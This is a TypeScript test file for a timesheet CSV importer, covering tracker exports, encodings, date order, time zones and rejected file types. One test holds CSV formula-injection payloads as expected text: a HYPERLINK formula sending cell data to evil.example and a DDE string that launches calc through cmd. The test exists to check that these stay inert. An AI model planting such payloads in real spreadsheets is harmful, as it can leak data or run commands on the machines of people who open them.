import { readFileSync } from 'node:fs'

import { describe, expect, test } from 'vitest'

import type { Delimiter } from '#core/csv.ts'
import { maxRows, readingSheet } from '#core/import/sheet.ts'
import { recogniseColumns } from '../transferColumns.ts'
import { readFile, type FileOptions, type FileRead } from '../transferFile.ts'
import { withRowForEachDay } from '../transferGrid.ts'
import { formatsOf } from '#core/locale/format.ts'

const sample = (name: string) =>
  new Uint8Array(readFileSync(new URL(`../../../../../tests/support/exports/${name}`, import.meta.url)))
const bytes = (text: string) => new TextEncoder().encode(text)
/** The sentence where nothing can be made of it. */
const read = (given: Uint8Array, { delimiter, ...options }: Partial<FileOptions> & { delimiter?: Delimiter } = {}) => {
  const reading = readingSheet(given, formatsOf('IN').number, { delimiter })
  let step = reading.next()
  while (step.done !== true) step = reading.next()
  const sheet = step.value
  return typeof sheet === 'string'
    ? sheet
    : readFile(withRowForEachDay(sheet), { timezone: 'Europe/London', ...options })
}
function rowsOf(name: string, options: Partial<FileOptions> = {}): FileRead {
  const answer = read(sample(name), options)
  if (typeof answer === 'string' || answer.kind !== 'read') throw new Error(JSON.stringify(answer))
  return answer.file
}

describe('the exports of other trackers are recognised by their columns', () => {
  test('Harvest: decimal hours, no times', () => {
    const { source, rows } = rowsOf('harvest.csv')
    expect(source).toBe('harvest')
    expect(rows.map((row) => [row.row, row.user, row.date, row.start, row.minutes, row.billable])).toEqual([
      [2, 'Sam Stone', '2026-03-02', null, 210, true],
      [3, 'Sam Stone', '2026-03-02', null, 255, true],
      [4, 'Sam Stone', '2026-03-03', null, 60, false],
      [5, 'Maya Moss', '2026-03-03', null, 380, true],
    ])
    expect(rows[3]?.details).toBe('Levels along the quay,\nsouth side')
  })

  test('Toggl Track: times with seconds, an entry over midnight', () => {
    const { source, rows } = rowsOf('toggl.csv')
    expect(source).toBe('toggl')
    expect(rows.map((row) => [row.email, row.date, row.start, row.end_date, row.end, row.task])).toEqual([
      ['sam@old.example', '2026-03-02', '09:00', '2026-03-02', '12:30', 'Levels'],
      ['sam@old.example', '2026-03-02', '12:30', '2026-03-02', '17:00', 'Drawing'],
      ['sam@old.example', '2026-03-03', '22:00', '2026-03-04', '02:15', 'Levels'],
      ['maya@old.example', '2026-03-03', '14:00', '2026-03-03', '15:20', ''],
    ])
  })

  test('Clockify: month first and 12 hours, which one date of the file gives away', () => {
    const { source, order, rows } = rowsOf('clockify.csv')
    expect([source, order]).toEqual(['clockify', 'mdy'])
    expect(rows.map((row) => [row.date, row.start, row.end])).toEqual([
      ['2026-03-02', '09:00', '12:30'],
      ['2026-03-02', '12:30', '17:00'],
      ['2026-03-13', '22:00', '02:15'],
      ['2026-03-03', '14:00', '15:20'],
    ])
  })

  test('Kimai: an activity is the task, the name and not the user name is the person', () => {
    const { source, rows } = rowsOf('kimai.csv')
    expect(source).toBe('kimai')
    expect(rows.map((row) => [row.user, row.task, row.start, row.end, row.minutes, row.client])[0]).toEqual([
      'Sam Stone',
      'Levels',
      '09:00',
      '12:30',
      210,
      'Harbour Trust',
    ])
  })

  test('Clockify: a workspace may call its tasks activities', () => {
    const text = new TextDecoder().decode(sample('clockify.csv')).replace('"Task"', '"Activity"')
    const answer = read(bytes(text))
    expect(answer).toMatchObject({ kind: 'read', file: { source: 'clockify', rows: [{ task: 'Levels' }, {}, {}, {}] } })
  })

  test('none of them has a row that cannot be read', () => {
    for (const name of ['harvest.csv', 'toggl.csv', 'clockify.csv', 'kimai.csv'])
      expect(
        rowsOf(name).rows.flatMap(({ problems }) => Object.keys(problems)),
        name,
      ).toEqual([])
  })
})

describe('any other file', () => {
  test.each([
    'user_email,client_name,project_name,task_name,entry_date,start_time,end_time,duration_minutes,is_billable,time_zone',
    'userEmail,clientName,projectName,taskName,entryDate,startTime,endTime,durationMinutes,isBillable,timeZone',
  ])('is read by headings of a program: %s', (header) => {
    const answer = read(
      bytes(`${header}\nsam@x.example,Trust,Bridge,Levels,2026-03-02,09:00,10:30,90,yes,Asia/Kolkata\n`),
    )
    expect(answer).toMatchObject({
      file: {
        rows: [
          {
            email: 'sam@x.example',
            client: 'Trust',
            project: 'Bridge',
            task: 'Levels',
            date: '2026-03-02',
            start: '09:00',
            end: '10:30',
            minutes: 90,
            billable: true,
            timezone: 'Asia/Kolkata',
          },
        ],
      },
    })
  })

  test('may be in the encodings that Excel writes', () => {
    expect(rowsOf('windows-1252.csv').rows).toMatchObject([{ details: 'Café – “north” side' }])
    expect(rowsOf('utf-16.csv').rows).toMatchObject([{ details: 'Levels' }])
  })

  test('with days that are none says so, and does not ask in which order they are', () => {
    const answer = read(bytes('Date,Hours\n31/31/2026,1\n31/02/2026,1\n'))
    expect(answer).toMatchObject({
      file: {
        rows: [
          { problems: { date: ['“31/31/2026” is not a valid date.'] } },
          { problems: { date: ['“31/02/2026” is not a valid date.'] } },
        ],
      },
    })
  })

  test('is asked for its columns when their names say nothing, and read once they are mapped', () => {
    const answer = read(sample('german-semicolons.csv'))
    expect(answer).toMatchObject({ kind: 'mapping', problem: 'Choose the column for the date.' })
    expect(answer).toMatchObject({
      file: { columns: [{ name: 'Datum', samples: ['02.03.2026', '03.03.2026'] }, {}, {}, {}, {}, {}] },
    })
    const { rows } = rowsOf('german-semicolons.csv', {
      mapping: { date: 0, start: 1, end: 2, duration: 3, details: 5 },
    })
    expect(rows.map((row) => [row.date, row.start, row.end, row.minutes, row.details])).toEqual([
      ['2026-03-02', '09:00', '12:30', 210, 'Nivellement am Kai – Nordseite'],
      ['2026-03-03', '13:00', '15:15', 135, 'Prüfung'],
    ])
  })

  test('is asked for the order of its dates when they may be read two ways', () => {
    expect(read(sample('ambiguous-dates.csv'))).toMatchObject({
      kind: 'date_order',
      possible: ['dmy', 'mdy'],
      sample: '1/2/2026',
    })
    expect(rowsOf('ambiguous-dates.csv', { date_order: 'dmy' }).rows.map(({ date }) => date)).toEqual([
      '2026-02-01',
      '2026-04-03',
    ])
    expect(rowsOf('ambiguous-dates.csv', { date_order: 'mdy' }).rows.map(({ date }) => date)).toEqual([
      '2026-01-02',
      '2026-03-04',
    ])
  })

  test('turns instants to the clock of the zone that the row, or the organisation, names', () => {
    const answer = read(
      bytes(
        'start,end,tz\n2026-07-01T23:30:00Z,2026-07-02T00:30:00Z,\n2026-07-01 08:00 +0000,2026-07-01 09:00 +0000,Asia/Kolkata\n',
      ),
    )
    expect(
      typeof answer === 'object' &&
        answer.kind === 'read' &&
        answer.file.rows.map((row) => [row.date, row.start, row.end, row.timezone]),
    ).toEqual([
      ['2026-07-02', '00:30', '01:30', 'Europe/London'],
      ['2026-07-01', '13:30', '14:30', 'Asia/Kolkata'],
    ])
  })

  test('keeps formulas as the text that they are', () => {
    expect(rowsOf('formulas.csv').rows.map(({ details }) => details)).toEqual([
      '=HYPERLINK("http://evil.example/?"&A1,"Levels")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1 day on the quay',
    ])
  })

  test('says what is wrong with which cell, and leaves lines of totals out', () => {
    const answer = read(bytes('Date,Hours,Notes\n2026-02-30,1,a\n2026-03-01,lots,b\n2026-03-02,,c\n,,\nTotal,,\n'))
    const rows = typeof answer === 'object' && answer.kind === 'read' ? answer.file.rows : []
    expect(rows.map(({ row, problems }) => [row, problems])).toMatchObject([
      [2, { date: ['“2026-02-30” is not a valid date.'] }],
      [3, { hours: ['“lots” is not a duration.'] }],
      [4, {}],
      [6, { date: ['“Total” is not a date.'] }],
    ])
  })
})

const locked = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('xxEncryptedPackage', 'utf16le')])

describe('what is no CSV is refused with a sentence that names it', () => {
  test.each([
    ['nothing', new Uint8Array(), 'This file is empty.'],
    ['an old workbook', sample('old.xls'), 'This is an old Excel workbook (.xls). Open it in'],
    ['a workbook under a password', locked, 'This workbook is protected by a password. Save it without one'],
    ['a page called a workbook', bytes('\ufeff\n<HTML><table>'), 'This is a web page or XML file'],
    ['a PDF', bytes('%PDF-1.7'), 'This is a PDF, not a table.'],
    ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3]), 'This is not a text file.'],
    ['a header alone', bytes('Date,Hours\n'), 'This file has no rows below its column names.'],
    ['an open quote', bytes('Date,Hours\n"2026,1\n'), 'This file cannot be read as CSV: The quotation mark on line 2'],
  ])('%s', (_, given, says) => {
    expect(read(given)).toContain(says)
  })

  test(`200,000 rows, of which ${maxRows} are taken`, () => {
    const rows = (count: number) => bytes(`Date,Hours\n${'2026-03-02,1\n'.repeat(count)}`)
    expect(read(rows(maxRows))).toMatchObject({ kind: 'read' })
    expect(read(rows(200_000))).toBe(
      'This file has about 2,00,000 rows. An import takes at most 20,000. Split the file and import the parts.',
    )
  })
})

test.each(['Author', 'Resource Name', 'Who'])('%s says whose hours they are', (heading) => {
  const found = recogniseColumns([heading, 'Date', 'Hours', 'Details'])
  expect(found.mapping).toMatchObject({ user: 0, date: 1 })
})

describe('a grid of days is a row for each day', () => {
  const hours = (...lines: string[]) => {
    const answer = read(bytes(lines.join('\n')))
    if (typeof answer === 'string') return answer
    if (answer.kind !== 'read') return answer.kind
    return answer.file.rows.map((row) => [row.user || row.project_code || row.project, row.task, row.date, row.minutes])
  }
  test('of a week from a spreadsheet: its totals are left out, weekdays say day and month', () => {
    const { rows } = rowsOf('excel_weekly_matrix.csv')
    expect(rows.map((row) => [row.project || row.project_code, row.task, row.date, row.minutes])).toEqual([
      ['P2001', 'Administration', '2026-11-09', 450],
      ['P2001', 'Administration', '2026-11-10', 480],
    ])
  })
  test('people by days, in any way that a day is written', () => {
    expect(
      hours('Person,Project,2026-03-02,2026-03-03,Total', 'Sam,Weir,7:30,,7.5', 'Maya,Weir,8,0,8', 'Total,,15.5,,15.5'),
    ).toEqual([
      ['Sam', '', '2026-03-02', 450],
      ['Maya', '', '2026-03-02', 480],
    ])
    expect(hours('Project,Task,2 Mar 2026,3 Mar 2026', 'Weir,Levels,1,2')).toEqual([
      ['Weir', 'Levels', '2026-03-02', 60],
      ['Weir', 'Levels', '2026-03-03', 120],
    ])
    // Days that follow each other say the order; one day of each month is asked about.
    expect(hours('Project,Task,03/04/2026,03/05/2026', 'Weir,Levels,1,2')).toEqual([
      ['Weir', 'Levels', '2026-03-04', 60],
      ['Weir', 'Levels', '2026-03-05', 120],
    ])
    expect(hours('Project,Task,03/03/2026,04/04/2026', 'Weir,Levels,1,2')).toEqual([
      ['Weir', 'Levels', '2026-03-03', 60],
      ['Weir', 'Levels', '2026-04-04', 120],
    ])
  })
})
